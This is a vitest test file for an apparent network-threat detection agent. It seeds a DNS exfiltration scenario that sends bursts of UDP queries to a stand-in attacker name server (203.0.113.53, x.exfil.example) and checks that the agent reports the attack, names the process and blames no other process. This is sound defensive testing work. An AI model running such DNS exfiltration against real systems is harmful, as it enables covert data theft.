// Seed 2B: DNS exfiltration with a fresh connected UDP socket per query (connect, send, wait for the answer,
// close) at 2–5 queries per second to the attacker's name server 203.0.113.53:53.
//
// Attribution: each socket lives only for the server's 20–60 ms answer delay, so a 1 s sample catches one open
// now and then; the conntrack entries of the others name no process. The agent attributes them by inference once it
// has seen one socket of the process open. So the pid is required when the agent's own history shows it saw the
// process (socket or inferred); otherwise a finding without a process and with less than High confidence is
// accepted.
import { expect, it } from 'vitest';
import { scenarioSuite, expectAttackReported, expectOnlyMaliciousAt } from './support/suite.js';
import { ADDR } from './support/lab.js';
import type { FindingDoc } from '../../core/finding.js';

const atNs = (f: FindingDoc) => f.destination.ip === ADDR.attackerNs && f.destination.port === 53 && f.network.transport === 'udp';

scenarioSuite(
  'dns-burst',
  '2B DNS exfiltration, a fresh UDP socket per query at 2–5 queries/s',
  { malicious: { name: 'dns-burst', program: 'dns-burst.mjs', args: ['--server', ADDR.attackerNs, '--domain', 'x.exfil.example'] } },
  (run) => {
    it('ran the dns-burst seed as intended (its own log)', () => {
      const log = run().lab.readLog('dns-burst');
      // 2–5 queries/s for ~28 s, logged every 10th, answered
      expect(log.length, JSON.stringify(log)).toBeGreaterThanOrEqual(5);
      expect(log.filter((e) => e['how'] === 'answer').length, JSON.stringify(log)).toBeGreaterThanOrEqual(4);
    });

    it('reports DNS to the attacker name server (T1071.004 or T1048.003) at risk ≥ Medium, naming the process where the agent saw it', () => {
      expectAttackReported(run(), {
        techniques: ['T1071.004', 'T1048.003'],
        destination: atNs,
        destinationText: `${ADDR.attackerNs}:53/udp`,
        pid: 'where-observed',
        destinationFilter: { ip: ADDR.attackerNs, port: 53 },
      });
    });

    it('names no other process at the attacker name server', () => {
      expectOnlyMaliciousAt(run(), atNs, `${ADDR.attackerNs}:53`);
    });
  },
);
